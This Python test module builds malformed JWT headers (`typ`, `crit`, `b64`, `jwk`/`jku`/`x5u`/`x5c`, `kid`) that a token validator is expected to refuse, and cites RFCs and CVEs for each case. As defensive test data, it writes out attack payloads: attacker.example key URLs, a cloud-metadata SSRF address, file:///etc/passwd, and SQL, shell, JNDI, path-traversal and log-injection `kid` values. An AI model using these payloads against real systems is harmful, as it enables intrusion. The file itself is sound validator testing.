"""Cases about the JOSE header beside `alg`: type, members that carry keys or extensions, `kid`."""

from .case import refuse
from .issuers import UNICODE_KID
from .keys import b64, jwk
from .tokens import ABSENT, claims, dump, header, jws, signing_input, token, with_header


def cases():
    yield from types()
    yield from extensions()
    yield from embedded_keys()
    yield from key_ids()


def types():
    def wrong(name, value, because, source="RFC 8725 §3.11"):
        return refuse(f"typ-{name}", "unsupported_header", because, source, token(head={"typ": value}))

    for name, value, what in (
        ("dpop", "dpop+jwt", "a DPoP proof (RFC 9449)"),
        ("logout", "logout+jwt", "a logout token"),
        ("security-event", "secevent+jwt", "a security event (RFC 8417)"),
        ("introspection", "token-introspection+jwt", "an introspection response (RFC 9701)"),
        ("client-authentication", "client-authentication+jwt", "a client assertion"),
        ("key-binding", "kb+jwt", "a key binding of a credential"),
        ("request-object", "oauth-authz-req+jwt", "a request object (RFC 9101)"),
    ):
        yield wrong(name, value, f"`typ` says {what}, not an access token.")
    yield wrong("jose", "JOSE", "`JOSE` names no JWT.", "RFC 7515 §4.1.9")
    yield wrong("jose-json", "JOSE+JSON", "`JOSE+JSON` names the JSON serialization.", "RFC 7515 §4.1.9")
    yield wrong("empty", "", "An empty `typ` is not an absent one.")
    yield wrong("application-only", "application/", "A prefix without a type is no type.", "RFC 7515 §4.1.9")
    yield wrong("prefix-twice", "application/application/jwt", "The prefix is left out once.", "RFC 7515 §4.1.9")
    yield wrong("text-jwt", "text/jwt", "Only the `application/` prefix may be left out.", "RFC 7515 §4.1.9")
    yield wrong(
        "parameter",
        "application/jwt;charset=utf-8",
        "A media type with parameters is another value.",
        "RFC 7515 §4.1.9",
    )
    yield wrong("trailing-space", "JWT ", "`typ` is compared whole.")
    yield wrong("near-miss", "at-jwt", "`at-jwt` is not `at+jwt`.", "RFC 9068 §2.1")
    yield wrong("nul", "at+jwt\u0000", "A NUL ends no string here.")
    yield wrong("fullwidth", "\uff2aWT", "Case folding is for ASCII only.")
    for name, value in {"null": None, "number": 1, "list": ["JWT"], "false": False}.items():
        yield refuse(
            f"typ-{name}",
            "wrong_type",
            f"`typ` is a string, so {dump(value).decode()} is not an absent one.",
            "RFC 7515 §4.1.9",
            token(head={"typ": value}),
        )


def extensions():
    def refused(name, because, source, text):
        return refuse(name, "unsupported_header", because, source, text)

    crit = "RFC 7515 §4.1.11"
    yield refused(
        "crit-unknown",
        "An extension that is critical and unknown makes the token invalid.",
        crit + "; CVE-2025-59420",
        token(head={"crit": ["bork"], "bork": True}),
    )
    yield refused(
        "crit-exp",
        "Critical `exp` in the header is not understood either.",
        crit + "; CVE-2026-32597",
        token(head={"crit": ["exp"], "exp": 1767229140}),
    )
    yield refused(
        "crit-uri",
        "A collision-resistant extension name is as unknown as a short one.",
        crit,
        token(head={"crit": ["http://example.com/MAC"], "http://example.com/MAC": 1}),
    )
    yield refused("crit-registered", "`crit` must not name a registered member.", crit, token(head={"crit": ["alg"]}))
    yield refused(
        "crit-named-but-absent",
        "`crit` must not name a member that is not there.",
        crit,
        token(head={"crit": ["bork"]}),
    )
    yield refused("crit-empty", "An empty list is not allowed.", crit, token(head={"crit": []}))
    yield refused("crit-null", "`crit` null is not an absent one.", crit, token(head={"crit": None}))
    yield refused("crit-text", "`crit` as a string is not overlooked.", crit, token(head={"crit": "exp"}))
    unencoded = header() | {"b64": False}
    yield refused("b64-false", "The payload of a JWT is always encoded.", "RFC 7797 §7", with_header(unencoded))
    yield refused(
        "b64-false-critical",
        "Critical `b64`, honoured or not, has no place in a JWT.",
        "RFC 7797 §6, §7",
        with_header(unencoded | {"crit": ["b64"]}),
    )


def embedded_keys():
    def refused(name, because, source, **members):
        return refuse(f"header-{name}", "unsupported_header", because, source, token(head=members, key="attacker"))

    embedded = "RFC 8725 §3.10; CVE-2018-0114"
    fetched = "RFC 8725 §3.10; RFC 7515 §4.1.2"
    yield refused(
        "jwk",
        "A key inside the token proves only that its holder made the token.",
        embedded,
        jwk=jwk("attacker", "cognito-key-1"),
    )
    yield refused(
        "jwk-other-kid",
        "The embedded key is not used under a `kid` of its own either.",
        embedded,
        jwk=jwk("attacker", "mine"),
        kid="mine",
    )
    yield refused(
        "jwk-symmetric",
        "An embedded symmetric key is refused like any other.",
        embedded,
        jwk={"kty": "oct", "k": b64(b"key")},
    )
    yield refused("jwk-empty", "An empty `jwk` is still one.", embedded, jwk={})
    yield refused("jwk-null", "`jwk` null is not an absent one.", embedded, jwk=None)
    yield refuse(
        "header-jwk-genuine",
        "unsupported_header",
        "Even the issuer's own key is not read from the token.",
        embedded,
        token(head={"jwk": jwk("cognito-1", "cognito-key-1")}),
    )
    yield refused(
        "jku",
        "A key set is never fetched from where the token says.",
        fetched,
        jku="https://attacker.example/jwks.json",
    )
    yield refused(
        "jku-of-issuer",
        "Not even when the address looks like the issuer's.",
        fetched,
        jku="https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_EXAMPLE01/.well-known/jwks.json@attacker.example",
    )
    yield refused(
        "jku-metadata-service",
        "An address from a token would be a request forged from our network.",
        fetched,
        jku="http://169.254.169.254/latest/meta-data/",
    )
    yield refused("jku-file", "A local file is no key set.", fetched, jku="file:///etc/passwd")
    yield refused(
        "x5u",
        "A certificate is never fetched from where the token says.",
        "RFC 8725 §3.10; RFC 7515 §4.1.5",
        x5u="https://attacker.example/cert.pem",
    )
    yield refused(
        "x5c", "A certificate inside the token proves nothing without a root of trust.", "RFC 7515 §4.1.6", x5c=["MIIB"]
    )
    yield refused("x5c-empty", "An empty chain is still one.", "RFC 7515 §4.1.6", x5c=[])


def key_ids():
    def unknown(name, kid, because, source="RFC 7515 §4.1.4; RFC 8725 §3.10"):
        return refuse(f"kid-{name}", "unknown_key", because, source, token(head={"kid": kid}))

    yield refuse(
        "kid-absent",
        "missing_key_id",
        "Without a `kid` no key is guessed, even if one would fit.",
        "RFC 7515 §4.1.4",
        token(head={"kid": ABSENT}),
    )
    yield refuse(
        "kid-empty", "missing_key_id", "An empty `kid` names nothing.", "RFC 7515 §4.1.4", token(head={"kid": ""})
    )
    yield refuse(
        "kid-absent-one-key-fits",
        "missing_key_id",
        "A set with one RSA key does not make it the default.",
        "RFC 7515 §4.1.4",
        token("oidc", {"kid": ABSENT}),
        "oidc",
    )
    for name, value in {
        "null": None,
        "number": 1,
        "list": ["cognito-key-1"],
        "object": {"$ne": ""},
        "true": True,
    }.items():
        yield refuse(
            f"kid-{name}",
            "wrong_type",
            f"`kid` is a string, so {dump(value).decode()} names no key.",
            "RFC 7515 §4.1.4",
            token(head={"kid": value}),
        )
    yield refuse(
        "kid-dev-null",
        "unknown_key",
        "A path to an empty file is just a name that the issuer does not publish.",
        "RFC 8725 §3.10",
        jws(header(kid="/dev/null"), claims(), "attacker"),
    )
    yield unknown("path-traversal", "../../../../../../dev/null", "A `kid` is never a path.")
    yield unknown("sql", "x' UNION SELECT 'secret'-- ", "A `kid` is never part of a query.")
    yield unknown("shell", "cognito-key-1|sleep 10", "A `kid` is never part of a command.")
    yield unknown("template", "${jndi:ldap://attacker.example/a}", "A `kid` is never expanded.")
    yield unknown("url", "https://attacker.example/jwks.json", "A `kid` is never fetched.")
    yield unknown(
        "line-break", "cognito-key-1\r\nlevel=info allowed=true", "A `kid` cannot write a log line of its own."
    )
    yield unknown("unpublished", "cognito-key-3", "A key that the issuer does not publish, or no longer does.")
    yield unknown("nul", "cognito-key-1\u0000", "A NUL ends no string here.")
    yield unknown("leading-space", " cognito-key-1", "`kid` is compared whole.")
    yield unknown("upper-case", "COGNITO-KEY-1", "`kid` is case-sensitive.")
    yield unknown("prefix", "cognito-key", "A prefix of a `kid` is another `kid`.")
    yield unknown("list-in-text", "cognito-key-1,cognito-key-2", "A list in one string is one name.")
    yield unknown("percent-encoded", "cognito%2Dkey%2D1", "Percent-encoding is not undone.")
    yield unknown("index", "0", "A `kid` is no position in the set.")
    yield unknown("prototype", "__proto__", "A `kid` is no property of an object.", "RFC 7515 §4.1.4")
    yield unknown("long", "k" * 6000, "A long `kid` is only a long name.")
    decomposed = UNICODE_KID.replace("\u00e9", "e\u0301")
    yield unknown(
        "other-normal-form",
        decomposed,
        "No Unicode normalization: the same letters in other code points are another `kid`.",
        "RFC 7515 §5.3; RFC 8259 §8.3",
    )
    text = signing_input(header(kid="rotated-away"), claims()).decode()
    yield refuse(
        "kid-unpublished-without-signature",
        "unknown_key",
        "The key is looked for before the signature is.",
        "RFC 7515 §5.2",
        text + ".",
    )
